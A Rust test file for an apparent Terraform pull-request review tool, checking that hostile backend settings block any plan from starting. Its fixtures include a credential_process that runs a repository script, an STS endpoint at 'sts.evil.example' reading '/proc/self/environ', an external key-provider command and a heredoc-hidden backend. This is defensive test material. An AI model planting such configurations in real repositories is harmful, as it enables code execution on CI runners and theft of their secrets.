//! Journeys on which the backend of a pull request decides whether anything is started.

use countersign_desk::DeskError;
use countersign_desk::views::{
    Addition, Blocker, Ending, PlanAnswers, PlanHere, PlanHereRequest, Refusal, RunsQuery, WillRunKind,
};
use countersign_terraform::configuration::BackendRefused;
use countersign_testkit::github::Commit;
use countersign_testkit::scene::{AUTHOR, BACKEND, REPOSITORY, TEAM};

use crate::reviewer::{Reviewer, reviewer};
use crate::world::{BASE, CHANGE};

/// The backend of the team with more settings in it.
fn backend(more: &str) -> String {
    BACKEND.replace("    use_lockfile ", &format!("{more}    use_lockfile "))
}

impl Reviewer {
    async fn sheet(&self) -> PlanHere {
        self.open().await;
        self.desk.plan_here_facts(&self.project_key()).await.unwrap()
    }

    /// Asks for a plan in spite of everything, and shows that no process of the tool was started.
    async fn starts_nothing(&self, sheet: &PlanHere) {
        let request = PlanHereRequest {
            key: self.project_key(),
            shown: sheet.shown.clone(),
            answers: PlanAnswers { without_sandbox: true, ..PlanAnswers::default() },
        };
        let refused = self.desk.plan_here(&request).await.expect_err("a plan that must not be made");
        assert!(matches!(refused, DeskError::PlanBlocked(_)), "{refused}");
        assert!(self.desk.runs(&RunsQuery::default()).rows.is_empty(), "a run was started");
        assert!(!self.scene.is_locked());
    }
}

/// Whys, settings and rules of the refusals of the backend.
fn refusals(sheet: &PlanHere) -> Vec<(BackendRefused, &str, Option<&str>)> {
    let of = |blocker: &'_ Blocker| matches!(blocker, Blocker::Backend { .. });
    assert!(sheet.blockers.iter().all(of), "{:?}", sheet.blockers);
    let refusals = sheet.blockers.iter().filter_map(|blocker| match blocker {
        Blocker::Backend { refusal } => Some((refusal.why, refusal.setting.as_str(), refusal.rule.as_deref())),
        _ => None,
    });
    refusals.collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn local_state_behind_an_override_is_refused() {
    let local = "terraform {\n  backend \"local\" {\n    path = \"prod.tfstate\"\n  }\n}\n";
    for (name, content) in [
        ("a_override.tf", local),
        ("override.tf.json", r#"[{"terraform": [{"backend": [{"local": {}}]}]}]"#),
        ("x_override.tf", "terraform {\n  cloud {\n    organization = \"acme\"\n  }\n}\n"),
    ] {
        let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE), (name, content)]).await else {
            return;
        };
        let sheet = reviewer.sheet().await;
        let expected = if name.starts_with('x') { Refusal::Cloud } else { Refusal::LocalState };
        assert_eq!(sheet.blockers, [Blocker::Refused { refusal: expected }], "{name}");
        reviewer.starts_nothing(&sheet).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_profile_and_its_file_in_the_repository_start_nothing() {
    let more = "    profile = \"ci\"\n    shared_config_files = [\"aws.ini\"]\n";
    let change = [
        ("main.tf", CHANGE),
        ("backend.tf", &backend(more)),
        ("aws.ini", "[profile ci]\ncredential_process = /bin/sh ./creds.sh\n"),
        ("creds.sh", "touch /tmp/started\n"),
    ];
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &change).await else { return };
    let sheet = reviewer.sheet().await;
    assert_eq!(
        refusals(&sheet),
        [(BackendRefused::Never, "s3.profile", None), (BackendRefused::Never, "s3.shared_config_files", None)]
    );
    assert_eq!(sheet.backend, None);
    reviewer.starts_nothing(&sheet).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_address_for_keys_and_a_web_identity_start_nothing() {
    let more = "    endpoints = { sts = \"https://sts.evil.example\" }\n    assume_role_with_web_identity = {\n      role_arn = \"arn:aws:iam::412033857711:role/state\"\n      web_identity_token_file = \"/proc/self/environ\"\n    }\n";
    let change = [("main.tf", CHANGE), ("backend.tf", &backend(more))];
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &change).await else { return };
    let sheet = reviewer.sheet().await;
    assert_eq!(
        refusals(&sheet),
        [
            (BackendRefused::Never, "s3.endpoints.sts", None),
            (BackendRefused::Never, "s3.assume_role_with_web_identity", None)
        ]
    );
    reviewer.starts_nothing(&sheet).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn encryption_that_the_team_does_not_name_starts_nothing() {
    let keys = "terraform {\n  encryption {\n    key_provider \"external\" \"x\" {\n      command = [\"touch\", \"/tmp/started\"]\n    }\n  }\n}\n";
    for name in ["keys.tf", "keys_override.tf"] {
        let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE), (name, keys)]).await else { return };
        let sheet = reviewer.sheet().await;
        let whys: Vec<BackendRefused> = refusals(&sheet).iter().map(|refusal| refusal.0).collect();
        assert_eq!(whys, [BackendRefused::Encryption], "{name}");
        assert_eq!(sheet.backend, None);
        reviewer.starts_nothing(&sheet).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_heredoc_that_hides_a_backend_starts_nothing() {
    let hidden =
        "locals {\n  a = <<EOT\nEOT \n}\nterraform {\n  backend \"local\" {}\n}\nlocals {\n  b = <<EOT\nEOT\n}\n";
    let change = [("main.tf", CHANGE), ("z_override.tf", hidden)];
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &change).await else { return };
    let sheet = reviewer.sheet().await;
    assert!(!sheet.blockers.is_empty());
    reviewer.starts_nothing(&sheet).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_endpoint_that_the_team_names_is_used_and_another_is_not() {
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    let address = reviewer.scene.cloud.s3.url();
    let address = address.trim_end_matches('/').to_owned();
    let push = |branch: &str, path: &str, content: &str| {
        reviewer.scene.github.world(|world| {
            world.push(REPOSITORY, branch, &[Commit::by(AUTHOR).file(path, content)]);
        });
    };
    push("change", "prod/network/backend.tf", &backend(&format!("    endpoints = {{ s3 = \"{address}\" }}\n")));
    // The rules of the pull request itself say nothing about it.
    let allowing = format!("{TEAM}\n[projects.backend]\nendpoint = \"{address}\"\n");
    push("change", ".countersign/projects.toml", &allowing);
    let sheet = reviewer.sheet().await;
    let rule = format!("endpoint = \"{address}\"");
    assert_eq!(refusals(&sheet), [(BackendRefused::TeamSilent, "s3.endpoints.s3", Some(rule.as_str()))]);
    reviewer.starts_nothing(&sheet).await;

    push("main", ".countersign/projects.toml", &allowing);
    reviewer.again().await;
    let sheet = reviewer.sheet().await;
    assert!(sheet.blockers.is_empty(), "{:?}", sheet.blockers);
    let shown = sheet.backend.unwrap();
    let line = shown.settings.iter().find(|line| line.name == "endpoints.s3").unwrap();
    assert_eq!((line.value.as_str(), line.addition), (address.as_str(), Addition::New));
    let known = shown.settings.iter().find(|line| line.name == "bucket").unwrap();
    assert_eq!((known.value.as_str(), shown.kind.as_str()), ("acme-state", "s3"));
    let planned = reviewer.plan_here().await;
    assert_eq!(planned.row.ending, Some(Ending::Planned), "{planned:#?}");

    let other = allowing.replace(&address, "https://s3.elsewhere.example");
    for branch in ["main", "change"] {
        push(branch, ".countersign/projects.toml", &other);
    }
    reviewer.again().await;
    let sheet = reviewer.sheet().await;
    assert_eq!(refusals(&sheet)[0].0, BackendRefused::TeamDiffers);
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_behind_links_are_shown() {
    let call = format!("{BASE}module \"parts\" {{\n  source = \"./parts\"\n}}\n");
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", &call)]).await else { return };
    let hook = "resource \"terraform_data\" \"hook\" {\n  provisioner \"local-exec\" {\n    command = \"echo shown\"\n  }\n}\n";
    reviewer.scene.github.world(|world| {
        let commit = Commit::by(AUTHOR).file("tools/main.tf", hook).link("prod/network/parts", "../../tools");
        world.push(REPOSITORY, "change", &[commit]);
    });
    let sheet = reviewer.sheet().await;
    let programs: Vec<(WillRunKind, &str, Addition)> =
        sheet.programs.iter().map(|it| (it.kind, it.what.as_str(), it.addition)).collect();
    assert_eq!(programs, [(WillRunKind::Provisioner, "local-exec: echo shown", Addition::New)]);
    assert!(sheet.unreadable.is_empty(), "{:?}", sheet.unreadable);
}
